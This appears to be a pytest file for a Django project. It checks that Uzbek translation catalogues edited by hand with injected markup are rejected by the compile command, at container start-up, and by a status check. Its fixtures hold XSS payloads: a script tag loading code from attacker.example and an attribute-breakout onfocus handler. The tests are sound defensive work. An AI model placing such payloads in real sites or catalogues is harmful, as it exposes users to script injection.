"""A hand-edited catalogue with markup of its own is never compiled."""

import os
import subprocess
import sys

import polib
import pytest
from django.conf import settings as django_settings
from django.core.management import CommandError, call_command

from tests.translations.catalogue_copies import copy_of_the_catalogues
from translations.catalogues import check_catalogue

HAND_EDITS = {
    "script in an entry": ("Partners", '<script src="https://attacker.example/x.js"></script>'),
    "quote out of an attribute": ("Main", 'Asosiy" onfocus="alert(1)'),
}


def hand_edited_uzbek(folder, msgid, msgstr):
    locale = copy_of_the_catalogues(folder)
    po_path = locale / "uz/LC_MESSAGES/django.po"
    catalogue = polib.pofile(str(po_path))
    catalogue.find(msgid).msgstr = msgstr
    catalogue.save()
    return locale


@pytest.mark.parametrize("edit", HAND_EDITS.values(), ids=HAND_EDITS.keys())
def test_compile_refuses_a_hand_edited_catalogue_naming_the_entry(settings, tmp_path, edit):
    msgid, msgstr = edit
    locale = hand_edited_uzbek(tmp_path, msgid, msgstr)
    settings.LOCALE_PATHS = [locale]
    compiled_before = (locale / "uz/LC_MESSAGES/django.mo").read_bytes()

    with pytest.raises(CommandError, match=f"“{msgid}”: markup"):
        call_command("compile_translations")

    assert (locale / "uz/LC_MESSAGES/django.mo").read_bytes() == compiled_before


def test_container_start_stops_on_a_bad_catalogue_in_the_locale_volume(tmp_path):
    locale = hand_edited_uzbek(tmp_path, *HAND_EDITS["script in an entry"])
    environment = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "tests.translations.site_settings",
        "TEST_LOCALE_PATH": str(locale),
        "PATH": f"{os.path.dirname(sys.executable)}:{os.environ['PATH']}",
    }

    start = subprocess.run(
        ["sh", "deploy/entrypoint.sh", "echo", "serving"],
        cwd=django_settings.BASE_DIR,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert start.returncode != 0
    assert "“Partners”: markup" in start.stderr
    assert "serving" not in start.stdout


def test_status_check_reports_markup_a_translation_adds(tmp_path):
    locale = hand_edited_uzbek(tmp_path, "Partners", "<b>Hamkorlar</b>")

    report = check_catalogue("uz", locale / "uz/LC_MESSAGES/django.po")

    assert [(problem.msgid, problem.description) for problem in report.problems] == [
        ("Partners", "markup (tags, entities, quotes, angle brackets) differs from the original")
    ]
